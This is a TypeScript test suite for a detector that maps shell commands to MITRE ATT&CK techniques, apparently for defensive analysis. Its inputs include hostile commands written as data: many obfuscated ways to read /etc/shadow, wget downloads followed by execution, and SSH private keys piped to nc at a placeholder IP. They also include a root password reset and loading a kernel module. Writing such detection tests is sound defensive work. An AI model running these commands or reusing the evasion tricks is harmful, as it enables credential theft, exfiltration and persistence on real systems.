import { describe, expect, it } from 'vitest';
import { testEvent, testId } from '../scoring/test-facts.ts';
import { createAttackMapper } from './attack-mapper.ts';

const mapper = createAttackMapper();

function techniquesOf(input: string): string[] {
  return mapper.mapCommandLine(input).flatMap((statement) => statement.techniques.map((technique) => technique.id));
}

describe('the ATT&CK mapper', () => {
  it('reports one entry per statement with its tactic and techniques', () => {
    expect(mapper.mapCommandLine('uname -a; cat /etc/shadow')).toEqual([
      {
        text: 'uname -a',
        tactic: 'discovery',
        techniques: [
          {
            id: 'T1082',
            name: 'System Information Discovery',
            tactics: ['discovery'],
            confidence: 0.82,
            rule: 'system-identity',
          },
        ],
      },
      {
        text: 'cat /etc/shadow',
        tactic: 'credential-access',
        techniques: [
          {
            id: 'T1003.008',
            name: 'OS Credential Dumping: /etc/passwd and /etc/shadow',
            tactics: ['credential-access'],
            confidence: 0.93,
            rule: 'shadow-file',
          },
          {
            id: 'T1083',
            name: 'File and Directory Discovery',
            tactics: ['discovery'],
            confidence: 0.3,
            rule: 'read-plain-file',
          },
        ],
      },
    ]);
  });

  it('gives a statement that only prepares another the tactic of that other', () => {
    expect(
      mapper.mapCommandLine('cd /tmp && wget http://192.0.2.1/x').map(({ text, tactic }) => [text, tactic]),
    ).toEqual([
      ['cd /tmp', 'command-and-control'],
      ['wget http://192.0.2.1/x', 'command-and-control'],
    ]);
  });

  it('leaves an unknown command without technique and tactic', () => {
    expect(mapper.mapCommandLine('frobnicate --all')).toEqual([
      { text: 'frobnicate --all', tactic: null, techniques: [] },
    ]);
  });

  it.each([
    ['behind sudo and env', 'sudo -u root env A=1 nohup cat /etc/shadow'],
    ['in sh -c', "sh -c 'cat /etc/shadow'"],
    ['in nested shells', `bash -c "sh -c 'cat /etc/shadow'"`],
    ['in eval', 'eval "cat /etc/shadow"'],
    ['in a command substitution', 'X=$(cat /etc/shadow)'],
    ['in backquotes', 'echo `cat /etc/shadow`'],
    ['in a pipeline of base64', 'echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh'],
    ['in a decoded substitution', 'eval "$(echo Y2F0IC9ldGMvc2hhZG93 | base64 --decode)"'],
    ['in escaped bytes', "echo -e '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x73\\x68\\x61\\x64\\x6f\\x77' | sh"],
    ['in a here-document', 'sh <<EOF\ncat /etc/shadow\nEOF'],
    ['in variables', 'c=cat; f=/etc/shadow; $c $f'],
    ['with quotes in the middle of words', 'c\'a\'t /etc/sha"dow"'],
    ['with the field separator for blanks', `cat\${IFS}/etc/shadow`],
    ['in braces', '{cat,/etc/shadow}'],
    ['in a loop', 'for i in 1 2; do cat /etc/shadow; done'],
    ['in a function', 'f() { cat /etc/shadow; }; f'],
    ['through find', 'find / -name x -exec cat /etc/shadow \\;'],
    ['through xargs', 'echo /x | xargs -n 1 cat /etc/shadow'],
    ['through busybox', '/bin/busybox cat /etc/shadow'],
  ])('finds what runs %s', (_, input) => {
    expect(techniquesOf(input)).toContain('T1003.008');
  });

  it('does not take words for commands', () => {
    expect(techniquesOf('echo cat /etc/shadow')).toEqual([]);
    expect(techniquesOf('# cat /etc/shadow')).toEqual([]);
  });

  it('still reads a line that is no valid script', () => {
    expect(techniquesOf('cat /etc/shadow | awk {print $1;} ; then (')).toContain('T1003.008');
  });

  it('states a finding with its event, rule, version and stage', () => {
    const event = testEvent('command.entered', 'command', { input: 'insmod /tmp/x.ko', channel: 'exec' });
    expect(mapper.mapEvent(event)).toEqual([
      {
        techniqueId: 'T1547.006',
        techniqueName: 'Boot or Logon Autostart Execution: Kernel Modules and Extensions',
        tactic: 'persistence',
        tactics: ['persistence', 'privilege-escalation'],
        confidence: 0.9,
        rule: 'kernel-module',
        attackVersion: '18.1',
        stage: 'installation',
        statement: 'insmod /tmp/x.ko',
        evidence: [testId('command')],
      },
    ]);
  });

  it('counts failed credentials only where it is given the facts', () => {
    const event = testEvent('credential.tried', 'failed', {
      method: 'password',
      username: 'eve',
      secret: 'long secret',
      accepted: false,
    });
    expect(mapper.mapEvent(event).map(({ rule }) => rule)).toEqual([]);
    expect(mapper.mapEvent(event, { failedCredentialCount: 3 }).map(({ rule }) => rule)).toEqual(['repeated-guesses']);
  });

  it('answers a repeated line with the same, frozen result', () => {
    const first = mapper.mapCommandLine('cat /proc/cpuinfo | grep name');
    expect(mapper.mapCommandLine('cat /proc/cpuinfo | grep name')).toBe(first);
    expect(Object.isFrozen(first) && first.every((statement) => Object.isFrozen(statement))).toBe(true);
  });

  it('finds the same with and without cache', () => {
    const uncached = createAttackMapper({ limits: { maxCachedInputs: 0 } });
    for (const input of ['uname -a', 'uname -a', 'wget http://192.0.2.1/a; sh a']) {
      expect(uncached.mapCommandLine(input)).toEqual(mapper.mapCommandLine(input));
    }
  });
});

describe('a script', () => {
  it('is read as a whole, so that variables carry over its statements', () => {
    const { statements, techniques } = mapper.mapScript('c=cat; $c /etc/shadow');
    expect(statements.map(({ text }) => text)).toEqual(['c=cat', '$c /etc/shadow']);
    expect(techniques.map(({ id }) => id)).toEqual(['T1003.008', 'T1083']);
  });
});

describe('a session of statements', () => {
  it('keeps one entry per statement given and reads pipelines that were cut apart', () => {
    const { statements, techniques } = mapper.mapSession([
      'cat /proc/cpuinfo |',
      'grep name |',
      'wc -l ;',
      'echo root:x |',
      'chpasswd |',
      'bash ;',
    ]);
    expect(statements.map(({ text, tactic }) => [text, tactic])).toEqual([
      ['cat /proc/cpuinfo |', 'discovery'],
      ['grep name |', 'discovery'],
      ['wc -l ;', 'discovery'],
      ['echo root:x |', 'persistence'],
      ['chpasswd |', 'persistence'],
      ['bash ;', 'persistence'],
    ]);
    expect(techniques.slice(0, 2).map(({ id, rule }) => [id, rule])).toEqual([
      ['T1082', 'system-files'],
      ['T1098', 'password-change'],
    ]);
  });

  it('joins a block that runs over several lines', () => {
    const { statements } = mapper.mapSession(['if true;', 'then insmod x.ko;', 'fi']);
    expect(statements.map(({ techniques }) => techniques.map(({ id }) => id))).toEqual([[], ['T1547.006'], []]);
  });

  it('tells deleting what was used from clearing the way', () => {
    const tactics = (statements: string[]) => mapper.mapSession(statements).statements.map(({ tactic }) => tactic);
    expect(tactics(['wget http://192.0.2.1/a.pl', 'perl a.pl', 'rm -rf a.pl'])).toEqual([
      'command-and-control',
      'execution',
      'defense-evasion',
    ]);
    expect(tactics(['rm -rf a.pl', 'wget http://192.0.2.1/a.pl'])).toEqual([
      'command-and-control',
      'command-and-control',
    ]);
  });

  it('reads a here-document that was cut into lines as what it is', () => {
    const { statements } = mapper.mapSession([
      'python3 - <<END',
      'import os',
      'END',
      'bash <<X',
      'cat /etc/shadow',
      'X',
    ]);
    expect(statements.map(({ techniques }) => techniques.map(({ id }) => id))).toEqual([
      ['T1059.006'],
      [],
      [],
      ['T1003.008', 'T1059.004', 'T1083'],
      [],
      [],
    ]);
  });

  it('is as sure of the second thing it does as of the first', () => {
    const { techniques } = mapper.mapSession(['cat /proc/cpuinfo', 'echo root:x | chpasswd']);
    const alone = mapper.mapSession(['echo root:x | chpasswd']).techniques[0];
    expect(techniques.find(({ id }) => id === 'T1098')).toEqual(alone);
  });

  it('gives the whole of a pipeline that sends data away to exfiltration', () => {
    const { statements } = mapper.mapSession(['tar cf - /root/.ssh/id_rsa |', 'gzip -c |', 'nc 192.0.2.10 5678']);
    expect(statements.map(({ tactic }) => tactic)).toEqual(['exfiltration', 'exfiltration', 'exfiltration']);
  });

  it('takes writing a file for part of what was done before, and reading one for looking', () => {
    const { statements } = mapper.mapSession([
      'echo root:x | chpasswd',
      'echo 321 > /var/tmp/.var',
      'cat /var/tmp/.var',
      './bot',
    ]);
    expect(statements.map(({ tactic }) => tactic)).toEqual(['persistence', 'persistence', 'discovery', 'execution']);
  });
});

describe('a command that no rule knows', () => {
  it('gets a hint of the learned ranker, marked as such and never sure', () => {
    const hinted = mapper
      .mapSession(['unknowntool --steal /root/.ssh/id_rsa /home/bob/.ssh/id_rsa'])
      .techniques.filter(({ rule }) => rule.startsWith('learned-ranker'));
    for (const { confidence } of hinted) expect(confidence).toBeLessThanOrEqual(0.5);
    expect(mapper.mapCommandLine('zzqx vvkk')).toEqual([{ text: 'zzqx vvkk', tactic: null, techniques: [] }]);
  });

  it('gets nothing when rules stand alone', () => {
    const alone = createAttackMapper({ ranker: null });
    expect(alone.mapSession(['zsteg-like --hidden a.png']).techniques).toEqual([]);
  });
});
